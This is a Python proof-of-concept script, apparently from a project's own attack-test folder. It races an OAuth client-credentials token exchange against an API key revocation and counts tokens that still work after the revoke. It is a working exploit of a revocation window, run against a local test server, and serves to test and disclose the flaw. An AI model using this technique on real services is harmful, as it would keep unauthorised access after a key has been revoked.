"""`apikey revoke` vs. tokens exchanged meanwhile: the revocation covers tokens exchanged for the
key "issued until now" (a subject revocation whose cutoff is the revoke's second), but the server
goes on exchanging the key until its control-plane view refreshes (polled every 0.25 s). A token
exchanged in a later second than the revoke, before the server heard of it, is not caught and
stays valid until its exp (15 minutes by default).

Run: TENANTRY_DATA_DIR=... .venv/bin/python attack/apikey_revoke_race.py [trials]
"""

from __future__ import annotations

import base64
import json
import sys
import threading
import time
from pathlib import Path

import httpx2

sys.path.insert(0, str(Path(__file__).parent))
from common import base, cli, modern  # noqa: E402


def trial() -> list[tuple[int, str, int]]:
    key = cli("apikey", "create", "--tenant", "acme", "--name", "race")
    key_id = key.split("_")[2]
    minted: list[tuple[float, str]] = []
    stop = threading.Event()

    def exchange_loop() -> None:
        with httpx2.Client() as http:
            while not stop.is_set():
                r = http.post(base() + "/oauth/token", data={"grant_type": "client_credentials"}, auth=(key_id, key))
                if r.status_code == 200:
                    minted.append((time.time(), r.json()["access_token"]))
                elif r.status_code in (400, 401, 429):
                    return  # refused: the server knows
                time.sleep(0.02)

    loop = threading.Thread(target=exchange_loop, daemon=True)
    loop.start()
    cli("apikey", "revoke", key_id)
    revoked = json.loads(cli("apikey", "list", "--tenant", "acme", "--json"))
    revoked_at = next(k for k in (revoked if isinstance(revoked, list) else revoked["keys"]) if k["key_id"] == key_id)
    loop.join(5)
    stop.set()
    at = revoked_at.get("revoked_at")
    survivors = []
    for _, tok in minted:
        iat = json.loads(base64.urlsafe_b64decode(tok.split(".")[1] + "==").decode())["iat"]
        r = modern(tok, "tools/call", {"name": "whoami", "arguments": {}})
        if r.status_code == 200:
            survivors.append((iat, at, r.status_code))
    return survivors


if __name__ == "__main__":
    trials = int(sys.argv[1]) if len(sys.argv) > 1 else 6
    total = 0
    for n in range(trials):
        found = trial()
        total += len(found)
        print(f"trial {n}: tokens exchanged for the key that still work after `apikey revoke` (iat, revoked_at):", found)
    print("surviving tokens in all:", total)
